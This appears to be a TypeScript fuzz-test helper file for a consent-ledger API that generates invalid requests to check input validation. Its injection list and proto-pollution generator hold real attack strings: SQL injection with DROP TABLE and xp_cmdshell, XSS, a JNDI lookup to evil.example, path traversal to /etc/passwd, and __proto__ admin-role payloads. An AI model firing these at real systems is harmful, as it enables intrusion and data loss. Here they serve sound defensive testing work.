import { iinCheckDigit, isValidIin } from '@ledger/consent-domain';

/**
 * The building blocks of the bad-input fuzz test: a seeded generator, pools of bad values, and one
 * generator per mutation class that turns a command's valid body into a request that is invalid
 * by construction.
 */

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
export type Body = { [key: string]: Json };
export type Path = readonly (string | number)[];

/** mulberry32: tiny, fast and the same on every platform. */
export class Rng {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  next(): number {
    let t = (this.state = (this.state + 0x6d2b79f5) >>> 0);
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  int(n: number): number {
    return Math.floor(this.next() * n);
  }

  between(min: number, max: number): number {
    return min + this.int(max - min + 1);
  }

  pick<T>(items: readonly T[]): T {
    if (items.length === 0) throw new Error('pick from an empty list');
    return items[this.int(items.length)];
  }

  chance(p: number): boolean {
    return this.next() < p;
  }
}

/** Each case has its own stream, so one case can be regenerated from (seed, index) alone. */
export function caseRng(seed: number, index: number): Rng {
  let h = Math.imul(seed ^ 0x9e3779b9, 0x85ebca6b) ^ Math.imul(index + 1, 0xc2b2ae35);
  h ^= h >>> 16;
  h = Math.imul(h, 0x27d4eb2d);
  h ^= h >>> 15;
  return new Rng(h);
}

export type FieldKind =
  | 'iin'
  | 'instant'
  | 'code'
  | 'codes'
  | 'enum'
  | 'boolean'
  /** Free text: any content within its length is valid, so content alone never makes it bad. */
  | 'text'
  /** A string with a strict shape (ids, versions, hashes, URLs, phone, e-mail, keys). */
  | 'pattern'
  | 'uuid'
  | 'object'
  | 'objects';

export interface Field {
  readonly path: Path;
  readonly kind: FieldKind;
  /** Leaving it out makes the request invalid; only then may null stand for it (null = absent). */
  readonly required?: boolean;
  /** text: the longest valid value. */
  readonly maxLength?: number;
  /** code, codes, enum: the values valid here. */
  readonly allowed?: readonly string[];
  /** instant: `occurred` obeys the late-entry window and skew; `after` is valid at any time after occurredAt. */
  readonly instant?: 'occurred' | 'after';
  /** pattern: its rule lets through characters beyond ASCII (URL path, e-mail), so content alone may not break it. */
  readonly lenient?: boolean;
  /** pattern, uuid: values its rule refuses. */
  readonly nearMisses?: readonly string[];
  /** codes, objects: bounds and an element that is valid on its own. */
  readonly minItems?: number;
  readonly maxItems?: number;
  readonly item?: Json;
}

/** A request a domain rule refuses (404, 409, 422) before anything is written. */
export interface Refusal {
  readonly detail: string;
  readonly body: Body;
  readonly url?: string;
  readonly expect: readonly number[];
  readonly codes?: readonly string[];
}

export interface CommandSpec {
  readonly name: string;
  readonly url: string;
  readonly token: string;
  /** A body the ledger would accept as it is: every mutation must break it. */
  readonly base: () => Body;
  readonly fields: readonly Field[];
  /** For commands with an id in the path. */
  readonly pathId?: {
    readonly value: string;
    readonly url: (id: string) => string;
    readonly kind: 'uuid' | 'policyId';
  };
  /** Dates that are well formed but contradict the facts they refer to. */
  readonly contradictoryDates?: readonly ((rng: Rng) => Refusal)[];
  /** Well-formed references to things the ledger does not hold. */
  readonly unknownReferences?: readonly ((rng: Rng) => Refusal)[];
  /** Facts already recorded, sent again under a fresh key. */
  readonly alreadyRecorded?: readonly ((rng: Rng) => Refusal)[];
}

/** A key the setup really used, with the request it was used for. */
export interface UsedKey {
  readonly key: string;
  readonly command: string;
  readonly url: string;
  readonly body: Body;
  /** The same request with one valid field changed. */
  readonly changed: (rng: Rng) => Body;
  /** A refusal that may answer first, before the key is looked at. */
  readonly orRefused?: { readonly status: number; readonly code: string };
}

export interface FuzzContext {
  readonly now: () => string;
  readonly specs: readonly CommandSpec[];
  readonly usedKeys: readonly UsedKey[];
  /** Field names some command knows: an "unknown field" never uses one. */
  readonly knownNames: ReadonlySet<string>;
  readonly bodyLimit: number;
}

/** What one generated case sends, and what it may get back. */
export interface Draft {
  readonly detail: string;
  readonly url?: string;
  readonly headers?: Record<string, string | undefined>;
  /** A body to serialise, or the exact bytes to send. */
  readonly body?: Json;
  readonly raw?: string | Buffer;
  readonly noBody?: boolean;
  readonly expect: readonly number[];
  readonly codes?: readonly string[];
  /** The idempotency key header to send instead of a fresh one; null sends none. */
  readonly key?: string | null;
}

/** Makes case number `k` of a class for a command; undefined when the class does not fit the command. */
export type Generator = (spec: CommandSpec, rng: Rng, ctx: FuzzContext, k: number) => Draft | undefined;

// ---------------------------------------------------------------------------------------------
// Body paths

export const clone = <T>(value: T): T => JSON.parse(JSON.stringify(value)) as T;

export function getAt(body: Json, path: Path): Json | undefined {
  let node: Json | undefined = body;
  for (const step of path) {
    if (node === null || typeof node !== 'object') return undefined;
    node = (node as Record<string, Json>)[step as string];
  }
  return node;
}

export function setAt(body: Body, path: Path, value: Json): Body {
  const copy = clone(body);
  let node: Json = copy;
  path.slice(0, -1).forEach((step) => {
    node = (node as Record<string, Json>)[step as string];
  });
  (node as Record<string, Json>)[path[path.length - 1] as string] = value;
  return copy;
}

export function dropAt(body: Body, path: Path): Body {
  const copy = clone(body);
  let node: Json = copy;
  path.slice(0, -1).forEach((step) => {
    node = (node as Record<string, Json>)[step as string];
  });
  if (Array.isArray(node)) node.splice(path[path.length - 1] as number, 1);
  else delete (node as Record<string, Json>)[path[path.length - 1] as string];
  return copy;
}

const show = (path: Path) => path.map((p) => (typeof p === 'number' ? `[${p}]` : `.${p}`)).join('') || '(body)';

/** Fields present in the base body, or optional ones a mutation may add. */
const fieldsIn = (spec: CommandSpec, base: Body, accept: (f: Field) => boolean) =>
  spec.fields.filter((f) => accept(f) && (getAt(base, f.path) !== undefined || f.path.length === 1));

// ---------------------------------------------------------------------------------------------
// Bad values

/** Strings that attack a parser, a query or a template. None fits a code, id, key, date or IIN. */
export const INJECTIONS: readonly string[] = [
  "' OR 1=1; DROP TABLE events; --",
  '" OR ""="; DELETE FROM events WHERE 1=1; --',
  "Robert'); DROP TABLE Students;--",
  "'; exec xp_cmdshell('dir'); --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${process.exit()}',
  '#{7*7}',
  '${jndi:ldap://evil.example/a}',
  '$where',
  '{"$gt": ""}',
  '__proto__',
  'a\u0000b',
  '\u0000',
  '\u202Eexe.txt',
  'ж'.repeat(3000),
  '😀'.repeat(1000),
  '\uD800',
  'x\uDC00y',
  '../../../../etc/passwd',
  '%00',
  '\r\nSet-Cookie: pwned=1',
  '\\u0000',
  '\u200B',
];

const UNICODE_DIGITS = ['٠١٢٣٤٥٦٧٨٩', '０１２３４５６７８９', '०१२३४५६७८९', '۰۱۲۳۴۵۶۷۸۹'];

/** An IIN that fails its rule, built from a valid one. */
export function badIin(rng: Rng, valid: string, k?: number): { label: string; value: Json } {
  const first11 = valid.slice(0, 11);
  const check = Number(valid[11]);
  const variants: [string, () => Json][] = [
    ['wrong check digit', () => first11 + ((check + rng.between(1, 9)) % 10)],
    ['11 digits', () => valid.slice(0, 11)],
    ['13 digits', () => valid + rng.int(10)],
    ['a letter for a digit', () => replaceAt(valid, rng.int(12), rng.pick(['O', 'l', 'a', 'Z', 'x']))],
    [
      'unicode digits',
      () => {
        const set = rng.pick(UNICODE_DIGITS);
        return rng.chance(0.5)
          ? [...valid].map((d) => set[Number(d)]).join('')
          : replaceAt(valid, rng.int(12), set[Number(valid[0])]);
      },
    ],
    ['surrounding space', () => rng.pick([` ${valid}`, `${valid} `, `${valid}\n`, `\t${valid}`])],
    ['grouped', () => `${valid.slice(0, 6)}-${valid.slice(6)}`],
    ['a number, not a string', () => Number(valid)],
    ['signed', () => rng.pick(['+', '-']) + valid],
    ['invisible character', () => replaceAt(valid, rng.between(1, 11), valid[rng.int(12)] + '\u200B', 0)],
    ['RTL override', () => `\u202E${valid}`],
    ['NUL', () => `${valid}\u0000`],
    ['empty', () => ''],
    ['too short', () => valid.slice(0, rng.between(1, 10))],
    ['no valid check digit exists', () => noCheckDigit(rng) + rng.int(10)],
    ['digits twice', () => valid + valid],
    ['scientific', () => `${valid.slice(0, 1)}.${valid.slice(1)}e11`],
  ];
  for (let attempt = 0; ; attempt++) {
    const [label, make] = k !== undefined && attempt === 0 ? variants[k % variants.length] : rng.pick(variants);
    const value = make();
    if (!(typeof value === 'string' && isValidIin(value))) return { label, value };
  }
}

/** A valid IIN the ledger has never seen (none of `avoid`). */
export function randomIin(rng: Rng, avoid: ReadonlySet<string>): string {
  for (;;) {
    const digits = Array.from({ length: 11 }, () => rng.int(10));
    const check = iinCheckDigit(digits);
    const iin = digits.join('') + String(check);
    if (check !== undefined && isValidIin(iin) && !avoid.has(iin)) return iin;
  }
}

/** A UUID the ledger never issued. */
export function randomUuid(rng: Rng): string {
  const hex = Array.from({ length: 32 }, () => rng.int(16).toString(16)).join('');
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(13, 16)}-a${hex.slice(17, 20)}-${hex.slice(20)}`;
}

/** Near misses of a real UUID that a UUID rule must refuse. */
export function uuidMisses(id: string): string[] {
  return [
    'not-a-uuid',
    '123',
    id.replace(/-/g, ''),
    `${id}a`,
    id.slice(1),
    `{${id}}`,
    id.replace(/[0-9a-f]$/, 'g'),
    ` ${id}`,
    `${id}\n`,
    id.replace(/-/g, '_'),
    `${id.slice(0, 7)}-${id.slice(9)}`,
    '',
  ];
}

function replaceAt(text: string, at: number, by: string, remove = 1): string {
  return text.slice(0, at) + by + text.slice(at + remove);
}

function noCheckDigit(rng: Rng): string {
  for (;;) {
    const digits = Array.from({ length: 11 }, () => rng.int(10));
    if (iinCheckDigit(digits) === undefined) return digits.join('');
  }
}

/** Date-times the ledger cannot read, whatever its clock says. */
export const MALFORMED_INSTANTS: readonly string[] = [
  '2025-02-30T10:00:00Z',
  '2025-02-29T10:00:00Z',
  '2025-04-31T10:00:00Z',
  '2025-13-01T00:00:00Z',
  '2025-00-10T00:00:00Z',
  '2025-01-00T00:00:00Z',
  '2025-01-01T25:61:00Z',
  '2025-01-01T23:60:00Z',
  '2025-06-30T23:59:60Z',
  '2025-01-01T10:00:00',
  '2025-01-01 10:00:00Z',
  '2025-01-01',
  '10:00:00Z',
  '10000-01-01T00:00:00Z',
  '+010000-01-01T00:00:00Z',
  '0000-01-01T00:00:00Z',
  '2025-1-1T10:00:00Z',
  '25-01-01T10:00:00Z',
  '2025-01-01T10:00:00+25:00',
  '2025-01-01T10:00:00+05:99',
  '2025-01-01T10:00:00+0500',
  '2025-01-01T10:00:00.1234567890Z',
  '2025-01-01T10:00:00z',
  '2025-01-01T10:00:00 Z',
  '2025-W01-1T10:00:00Z',
  '2025-001T10:00:00Z',
  'Wed, 01 Jan 2025 10:00:00 GMT',
  '1735725600000',
  'yesterday',
  'now',
  '',
  ' ',
  '२०२५-०१-०१T10:00:00Z',
  '２０２５-01-01T10:00:00Z',
  '2025-01-01T10:00:00Z\u0000',
  '2025-01-01T10:00:00ZZ',
  'NaN',
  'Infinity',
];

const YEAR = 365 * 24 * 60 * 60 * 1000;
const DAY = 24 * 60 * 60 * 1000;

/** Well-formed, but beyond the 2-minute skew: an event the caller says has not happened yet. */
export function futureInstant(rng: Rng, now: string): string {
  const ahead = rng.pick([5 * 60 * 1000, 60 * 60 * 1000, DAY, 30 * DAY, 10 * YEAR]) + rng.int(60_000);
  return rng.chance(0.1) ? '9999-12-31T23:59:59.999Z' : new Date(Date.parse(now) + ahead).toISOString();
}

/** Well-formed, but older than the 30-day late-entry window. */
export function tooOldInstant(rng: Rng, now: string): string {
  const back = rng.pick([31 * DAY, 90 * DAY, YEAR, 50 * YEAR]) + rng.int(DAY);
  return rng.chance(0.1) ? '1970-01-01T00:00:00.000Z' : new Date(Date.parse(now) - back).toISOString();
}

/** Values of the wrong JSON type for a field of this kind (null only where absence is invalid). */
export function wrongTypes(field: Field): Json[] {
  const nullable: Json[] = field.required ? [null] : [];
  switch (field.kind) {
    case 'boolean':
      return ['true', 'false', 1, 0, 'yes', {}, [], [true], ...nullable];
    case 'codes':
      return [field.item ?? 'advertising', {}, 1, true, [1], [null], [[field.item ?? 'x']], [{}], ...nullable];
    case 'object':
      return ['x', 1, true, [], [{}], ...nullable];
    case 'objects':
      return ['x', 1, true, {}, field.item ?? { kind: 'k' }, [1], ['x'], [null], [[]], ...nullable];
    default:
      return [0, -1, 3.14, 1e308, 900101300017, true, false, {}, { $where: '1' }, [], ['x'], ...nullable];
  }
}

// ---------------------------------------------------------------------------------------------
// Generators, one per mutation class

const INHERITED_NAMES = [
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'isPrototypeOf',
  'propertyIsEnumerable',
  'toLocaleString',
  '__defineGetter__',
  '__defineSetter__',
  '__lookupGetter__',
  '__lookupSetter__',
];

const EXTRA_NAMES = [
  'admin',
  'isAdmin',
  'role',
  'roles',
  'status',
  'id',
  'eventId',
  'position',
  'IIN',
  'Iin',
  'iin ',
  ' iin',
  'ｉｉｎ',
  'occurred_at',
  'occurredat',
  'OccurredAt',
  '$where',
  '$gt',
  '$set',
  '',
  'a.b',
  '0',
  'x'.repeat(1000),
  'имя',
  '\u0000',
  "' OR 1=1 --",
  '<script>',
];

/** Containers where a field can be added: the body and every nested object of the base. */
function containers(spec: CommandSpec, base: Body): Path[] {
  const paths: Path[] = [[]];
  for (const f of spec.fields) {
    if (f.kind === 'object' && getAt(base, f.path) !== undefined) paths.push(f.path);
    if (f.kind === 'objects' && Array.isArray(getAt(base, f.path)) && (getAt(base, f.path) as Json[]).length > 0)
      paths.push([...f.path, 0]);
  }
  return paths;
}

function addField(base: Body, at: Path, name: string, value: Json): Body {
  const copy = clone(base);
  const node = (at.length === 0 ? copy : getAt(copy, at)) as Record<string, Json>;
  node[name] = value;
  return copy;
}

/** A second, definite violation, for when the first may be allowed content (free text). */
function withViolation(spec: CommandSpec, rng: Rng, body: Body): { body: Body; detail: string } {
  const iin = spec.fields.find((f) => f.kind === 'iin');
  const required = spec.fields.filter((f) => f.required && getAt(body, f.path) !== undefined);
  const choice = rng.int(3);
  if (choice === 0 && iin && typeof getAt(body, iin.path) === 'string') {
    const bad = badIin(rng, getAt(body, iin.path) as string);
    return { body: setAt(body, iin.path, bad.value), detail: `and iin ${bad.label}` };
  }
  if (choice === 1 && required.length > 0) {
    const drop = rng.pick(required);
    return { body: dropAt(body, drop.path), detail: `and without ${show(drop.path)}` };
  }
  return { body: addField(body, [], 'fuzzExtra', rng.pick(INJECTIONS)), detail: 'and an unknown field' };
}

const stringFields = (spec: CommandSpec, base: Body) =>
  fieldsIn(spec, base, (f) => ['iin', 'instant', 'code', 'enum', 'text', 'pattern', 'uuid'].includes(f.kind));

export const GENERATORS: Record<string, Generator> = {
  'missing-field': (spec, _rng, _ctx, k) => {
    const base = spec.base();
    const required = spec.fields.filter((f) => f.required && getAt(base, f.path) !== undefined);
    if (k >= required.length) return { detail: 'empty object', body: {}, expect: [400] };
    const field = required[k];
    return { detail: `without ${show(field.path)}`, body: dropAt(base, field.path), expect: [400] };
  },

  'wrong-type': (spec, _rng, _ctx, k) => {
    const base = spec.base();
    const pairs = wrongTypePairs(spec, base);
    if (k >= pairs.length) {
      const body = WRONG_BODIES(base)[k - pairs.length];
      return { detail: `body is ${JSON.stringify(body).slice(0, 20)}`, body, expect: [400] };
    }
    const [field, value] = pairs[k];
    return {
      detail: `${show(field.path)} = ${JSON.stringify(value).slice(0, 40)}`,
      body: setAt(base, field.path, value),
      expect: [400],
    };
  },

  'huge-string': (spec, rng, ctx) => {
    const base = spec.base();
    const field = rng.pick(fieldsIn(spec, base, () => true));
    const variant = rng.int(4);
    if (variant === 0) {
      // Past the body limit: refused before it is parsed.
      const text = rng.pick(['a', 'ж', '😀', '\u0000']).repeat(ctx.bodyLimit + 1 + rng.int(100_000));
      return {
        detail: `${show(field.path)} holds ${text.length} characters (body over the limit)`,
        body: setAt(base, field.path, text),
        expect: [413],
        codes: ['payload-too-large'],
      };
    }
    if (variant === 1) {
      const extra = Array.from({ length: rng.between(700, 3000) }, (_, i) => [`f${i}`, 'x'.repeat(100)]);
      return {
        detail: `${extra.length} extra fields (body over the limit)`,
        body: { ...base, ...Object.fromEntries(extra) },
        expect: [413],
        codes: ['payload-too-large'],
      };
    }
    if (variant === 2 && field.kind === 'text') {
      // Just past the longest valid value.
      const text = 'r'.repeat(field.maxLength! + rng.between(1, 3));
      return {
        detail: `${show(field.path)} of ${text.length} characters`,
        body: setAt(base, field.path, text),
        expect: [400],
      };
    }
    // Large but under the limit: the field's own rule must refuse it.
    const unit = rng.pick(['a', '9', 'ж', 'a-']);
    const text = unit.repeat(Math.floor(rng.between(4_000, 28_000) / unit.length));
    return {
      detail: `${show(field.path)} of ${text.length} characters`,
      body: setAt(base, field.path, text),
      expect: [400],
    };
  },

  'array-bounds': (spec, rng) => {
    const base = spec.base();
    const arrays = fieldsIn(spec, base, (f) => f.kind === 'codes' || f.kind === 'objects');
    if (arrays.length === 0) return undefined;
    const field = rng.pick(arrays);
    const tooMany = field.maxItems! + rng.between(1, 200);
    if ((field.minItems ?? 0) > 0 && rng.chance(0.4)) {
      return { detail: `${show(field.path)} empty`, body: setAt(base, field.path, []), expect: [400] };
    }
    return {
      detail: `${show(field.path)} with ${tooMany} items`,
      body: setAt(
        base,
        field.path,
        Array.from({ length: tooMany }, () => clone(field.item!)),
      ),
      expect: [400, 413],
    };
  },

  'invalid-iin': (spec, rng, _ctx, k) => {
    const base = spec.base();
    const field = spec.fields.find((f) => f.kind === 'iin');
    if (!field) return undefined;
    const bad = badIin(rng, getAt(base, field.path) as string, k);
    return {
      detail: `iin: ${bad.label} (${JSON.stringify(bad.value)})`,
      body: setAt(base, field.path, bad.value),
      expect: [400],
    };
  },

  'unknown-code': (spec, rng, _ctx, k) => {
    const base = spec.base();
    const fields = fieldsIn(spec, base, (f) => f.allowed !== undefined);
    if (fields.length === 0) return undefined;
    const field = fields[k % fields.length];
    const allowed = new Set(field.allowed);
    const candidates = [
      'other-purposes',
      'telepathy',
      'first-credit-bureau-2',
      'iin2',
      'advertising-abroad',
      'en',
      'fax',
      'carrier-pigeon',
      'forever',
      'x',
      'a1-b2-c3',
      ...['advertising', 'enpf', 'iin', 'microcredit-reporting', 'sms', 'paper', 'kk', 'court-decision', 'until'],
    ].filter((c) => !allowed.has(c));
    const code = rng.pick(candidates);
    if (field.kind === 'codes') {
      const list = [...((getAt(base, field.path) as string[] | undefined) ?? [field.item as string])];
      list.splice(rng.int(list.length + 1), 0, code);
      return { detail: `${show(field.path)} includes ${code}`, body: setAt(base, field.path, list), expect: [400] };
    }
    return { detail: `${show(field.path)} = ${code}`, body: setAt(base, field.path, code), expect: [400] };
  },

  'bad-format': (spec, _rng, _ctx, k) => {
    const pairs = nearMissPairs(spec, spec.base());
    if (pairs.length === 0) return undefined;
    const [field, value] = pairs[k % pairs.length];
    return {
      detail: `${show(field.path)} = ${JSON.stringify(value).slice(0, 60)}`,
      body: setAt(spec.base(), field.path, value),
      expect: [400],
    };
  },

  'bad-date': (spec, rng, ctx, k) => {
    const base = spec.base();
    const fields = fieldsIn(spec, base, (f) => f.kind === 'instant');
    if (fields.length === 0) return undefined;
    if (spec.contradictoryDates && k % 8 === 7) {
      return refusal(spec.contradictoryDates[(k >> 3) % spec.contradictoryDates.length](rng));
    }
    const field = fields[k % fields.length];
    const now = ctx.now();
    const roll = rng.int(10);
    if (field.instant === 'occurred' && roll < 2) {
      const value = futureInstant(rng, now);
      return {
        detail: `${show(field.path)} in the future: ${value}`,
        body: setAt(base, field.path, value),
        expect: [400],
      };
    }
    if (roll < 4) {
      // For occurredAt: outside the window (422). For a later instant: before occurredAt.
      const value = tooOldInstant(rng, now);
      return {
        detail: `${show(field.path)} long ago: ${value}`,
        body: setAt(base, field.path, value),
        expect: [400, 422],
      };
    }
    const value = MALFORMED_INSTANTS[(k * 7 + rng.int(3)) % MALFORMED_INSTANTS.length];
    return {
      detail: `${show(field.path)} = ${JSON.stringify(value)}`,
      body: setAt(base, field.path, value),
      expect: [400],
    };
  },

  'unknown-field': (spec, rng, ctx, k) => {
    const base = spec.base();
    const places = containers(spec, base);
    const at = places[k % places.length];
    const names = EXTRA_NAMES.filter((n) => !ctx.knownNames.has(n));
    const name = rng.chance(0.3) ? `x-fuzz-${rng.int(1e6)}` : rng.pick(names);
    const value = rng.pick<Json>([true, 1, 'x', rng.pick(INJECTIONS), {}, [], { nested: { deeper: 1 } }, null]);
    return {
      detail: `${show(at)} gets ${JSON.stringify(name).slice(0, 30)}`,
      body: addField(base, at, name, value),
      expect: [400],
    };
  },

  'proto-pollution': (spec, rng) => {
    const base = spec.base();
    const at = rng.pick(containers(spec, base));
    const payload = rng.pick(['{"polluted":true}', '{"isAdmin":true,"roles":["compliance-admin"]}', '{"toString":1}']);
    const variant = rng.pick(['__proto__', 'constructor.prototype', '__proto__ in an array item']);
    const text = JSON.stringify(base);
    let raw: string;
    if (variant === '__proto__') raw = insertKey(text, base, at, `"__proto__":${payload}`);
    else if (variant === 'constructor.prototype')
      raw = insertKey(text, base, at, `"constructor":{"prototype":${payload}}`);
    else raw = insertKey(text, base, [], `"fuzzList":[{"__proto__":${payload}}]`);
    return { detail: `${variant} at ${show(at)}`, raw, expect: [400], codes: ['malformed-json'] };
  },

  injection: (spec, rng, _ctx, k) => {
    const base = spec.base();
    const text = INJECTIONS[(k + rng.int(2)) % INJECTIONS.length];
    if (spec.pathId && rng.chance(0.1)) {
      return {
        detail: `path id = ${JSON.stringify(text).slice(0, 40)}`,
        url: spec.pathId.url(encodePathSegment(text)),
        body: base,
        expect: [400, 404, 414],
      };
    }
    if (rng.chance(0.1) && text !== '__proto__') {
      return {
        detail: `a field named ${JSON.stringify(text).slice(0, 40)}`,
        body: addField(base, [], text, 1),
        expect: [400],
      };
    }
    const targets = stringFields(spec, base).concat(fieldsIn(spec, base, (f) => f.kind === 'codes'));
    const field = targets[k % targets.length];
    const value: Json = field.kind === 'codes' ? [text] : text;
    const body = setAt(base, field.path, value);
    if (field.kind === 'text' || field.lenient) {
      // Free text may hold any of these: only a second violation makes the request invalid.
      const paired = withViolation(spec, rng, body);
      return {
        detail: `${show(field.path)} = ${JSON.stringify(text).slice(0, 40)} ${paired.detail}`,
        body: paired.body,
        expect: [400],
      };
    }
    return { detail: `${show(field.path)} = ${JSON.stringify(text).slice(0, 40)}`, body, expect: [400] };
  },

  'malformed-json': (spec, rng) => {
    const text = JSON.stringify(spec.base());
    const cut = rng.between(1, text.length - 1);
    const variants: [string, () => string][] = [
      ['truncated', () => text.slice(0, cut)],
      ['trailing comma', () => text.slice(0, -1) + ',}'],
      ['single quotes', () => text.replace(/"/g, "'")],
      ['unquoted keys', () => text.replace(/"([A-Za-z]+)":/g, '$1:')],
      ['a comment', () => `// note\n${text}`],
      ['NaN', () => text.slice(0, -1) + ',"n":NaN}'],
      ['undefined', () => text.slice(0, -1) + ',"u":undefined}'],
      ['trailing garbage', () => `${text}x`],
      ['two documents', () => `${text}${text}`],
      ['BOM and truncated', () => `\uFEFF${text.slice(0, cut)}`],
      ['leading garbage', () => `)]}',\n${text}`],
      ['hex number', () => text.slice(0, -1) + ',"h":0x1F}'],
      ['raw control character in a string', () => text.replace(/"iin":"/, '"iin":"\u0001').replace(/^{"/, '{"\u0007')],
      ['bad escape', () => text.replace(/"$/, '').slice(0, -1) + ',"e":"\\x41"}'],
      ['unterminated string', () => text.slice(0, -2)],
      ['missing brace', () => text.slice(1)],
      ['key without value', () => text.slice(0, -1) + ',"k":}'],
      ['deleted character', () => text.slice(0, cut) + text.slice(cut + 1)],
      ['empty', () => ''],
      ['whitespace', () => ' \n\t '],
    ];
    for (;;) {
      const [label, make] = rng.pick(variants);
      const raw = make();
      if (!parses(raw)) return { detail: label, raw, expect: [400], codes: ['malformed-json'] };
    }
  },

  'deep-nesting': (spec, rng, ctx) => {
    const base = spec.base();
    // Log-uniform depth from 16 to the most the body limit allows.
    const objects = rng.chance(0.4);
    const max = Math.floor(ctx.bodyLimit / (objects ? 6 : 2)) - 200;
    const depth = Math.floor(16 * Math.pow(max / 16, rng.next()));
    const open = objects ? '{"a":'.repeat(depth) : '['.repeat(depth);
    const close = objects ? '}'.repeat(depth) : ']'.repeat(depth);
    const nested = `${open}${objects ? '1' : ''}${close}`;
    const field = rng.pick(fieldsIn(spec, base, () => true));
    const raw = rng.chance(0.2)
      ? nested
      : JSON.stringify(setAt(base, field.path, '@@DEEP@@')).replace('"@@DEEP@@"', nested);
    return {
      detail: `${objects ? 'objects' : 'arrays'} nested ${depth} deep in ${raw === nested ? 'the body' : show(field.path)}`,
      raw,
      expect: [400, 413],
    };
  },

  'content-type': (spec, rng) => {
    const base = spec.base();
    const refused = [
      'text/plain',
      'text/plain; charset=utf-8',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=fuzz',
      'application/xml',
      'text/json',
      'application/merge-patch+json',
      'application/octet-stream',
      'application/jsonx',
      'json',
      'text/html',
      'application/json-seq',
      'image/png',
      undefined,
    ];
    if (rng.chance(0.75)) {
      const type = rng.pick(refused);
      // The body is otherwise valid: only the media type stops it.
      return {
        detail: `content-type ${type ?? '(none)'}`,
        headers: { 'content-type': type },
        body: base,
        expect: [415],
        codes: ['unsupported-media-type'],
      };
    }
    // Types a parser may read as JSON: the body carries its own violation too.
    const type = rng.pick([
      'APPLICATION/JSON',
      'application/json; charset=utf-16',
      'application/json; charset=latin1',
      'application/json;;',
      'application/json, text/plain',
    ]);
    const paired = withViolation(spec, rng, base);
    return {
      detail: `content-type ${type} ${paired.detail}`,
      headers: { 'content-type': type },
      body: paired.body,
      expect: [400, 415],
    };
  },

  'empty-body': (spec, rng) => {
    const variants: [string, Draft][] = [
      ['no body, JSON type', { detail: '', noBody: true, expect: [400] }],
      ['no body, no type', { detail: '', noBody: true, headers: { 'content-type': undefined }, expect: [400, 415] }],
      ['empty string', { detail: '', raw: '', expect: [400] }],
      ['null', { detail: '', raw: 'null', expect: [400] }],
      ['{}', { detail: '', raw: '{}', expect: [400] }],
      ['[]', { detail: '', raw: '[]', expect: [400] }],
      ['a string', { detail: '', raw: '"body"', expect: [400] }],
      ['a number', { detail: '', raw: '0', expect: [400] }],
      ['false', { detail: '', raw: 'false', expect: [400] }],
      ['an array of the body', { detail: '', raw: `[${JSON.stringify(spec.base())}]`, expect: [400] }],
    ];
    const [label, draft] = rng.pick(variants);
    return { ...draft, detail: label };
  },

  'bad-idempotency-key': (spec, rng) => {
    const base = spec.base();
    const bad = [
      'k'.repeat(129),
      'k'.repeat(rng.between(200, 10_000)),
      'a b',
      'a/b',
      'ключ',
      'clé',
      '-leading-dash',
      '.leading-dot',
      '_leading',
      ' ',
      'a;b',
      'a,b',
      '<script>',
      "' OR 1=1",
      '{{7*7}}',
      '${x}',
      '%00',
      'a\tb',
      'a\u0000b',
      '../../etc',
      '*',
    ];
    const value = rng.pick(bad);
    switch (rng.int(6)) {
      case 0:
        return { detail: 'no key at all', body: base, key: null, expect: [400], codes: ['idempotency-key-required'] };
      case 1:
        return { detail: 'empty header', body: base, key: '', expect: [400] };
      case 2:
        return {
          detail: `commandId ${JSON.stringify(value).slice(0, 30)}, no header`,
          body: { ...base, commandId: value },
          key: null,
          expect: [400],
        };
      case 3:
        return {
          detail: `commandId of wrong type, no header`,
          body: { ...base, commandId: rng.pick<Json>([1, true, {}, ['k'], null]) },
          key: null,
          expect: [400],
        };
      case 4:
        return {
          detail: 'header and commandId differ',
          body: { ...base, commandId: `other-${rng.int(1e6)}` },
          expect: [400],
          codes: ['idempotency-key-mismatch'],
        };
      default:
        return { detail: `header ${JSON.stringify(value).slice(0, 30)}`, body: base, key: value, expect: [400] };
    }
  },

  'bad-path': (spec, rng) => {
    const base = spec.base();
    if (spec.pathId && rng.chance(0.7)) {
      const id = spec.pathId.value;
      const misses =
        spec.pathId.kind === 'uuid'
          ? [
              'not-a-uuid',
              '123',
              id.toUpperCase(),
              id.replace(/-/g, ''),
              `${id}a`,
              id.slice(1),
              `%7B${id}%7D`,
              id.replace(/[0-9a-f]$/, 'g'),
              '%00',
              '..',
              '%2e%2e',
              `${id}%20`,
              `%20${id}`,
              '٠'.repeat(8),
              '1 OR 1=1',
            ]
          : [
              'Privacy',
              'privacy-policy',
              '_privacy',
              'p'.repeat(65),
              '%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82',
              '%20privacy',
              'privacy%00',
              '..',
              'privacy.v1',
            ];
      const roll = rng.int(10);
      if (roll === 0)
        return {
          detail: 'an id too long for the router',
          url: spec.pathId.url('a'.repeat(rng.between(101, 3000))),
          body: base,
          expect: [400, 414],
        };
      if (roll === 1)
        return {
          detail: 'bad percent-encoding',
          url: spec.pathId.url(rng.pick(['%zz', '%E0%A4%A', '%ED%A0%80', '%', `${id}%C0%AF`])),
          body: base,
          expect: [400],
        };
      if (roll === 2) return { detail: 'empty id', url: spec.pathId.url(''), body: base, expect: [404] };
      const miss = rng.pick(misses);
      return {
        detail: `id ${JSON.stringify(miss).slice(0, 50)}`,
        url: spec.pathId.url(miss),
        body: base,
        expect: [400, 404],
      };
    }
    const url = rng.pick([
      `${spec.url}/`,
      spec.url.toUpperCase(),
      `${spec.url}/x`,
      spec.url.replace('/v1/', '/v1//'),
      `${spec.url}%00`,
      `${spec.url}.json`,
      spec.url.replace('/v1/', '/v2/'),
      spec.url.replace('/v1/', '/'),
      `${spec.url}/..`,
      spec.url.replace(/-/g, '_') + (spec.url.includes('-') ? '' : '_'),
      `${spec.url};jsessionid=1`,
    ]);
    return { detail: `url ${url.slice(0, 80)}`, url, body: base, expect: [404], codes: ['route-not-found'] };
  },

  'reused-key': (spec, rng, ctx) => {
    const own = ctx.usedKeys.filter((u) => u.command === spec.name);
